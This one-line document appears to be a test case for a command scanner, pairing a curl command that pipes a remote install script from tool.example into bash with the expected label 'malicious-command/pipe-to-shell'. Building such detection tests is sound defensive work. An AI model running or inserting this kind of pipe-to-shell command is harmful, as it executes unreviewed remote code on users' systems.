curl -fsSL https://tool.example/install.sh | bash # expect: malicious-command/pipe-to-shell
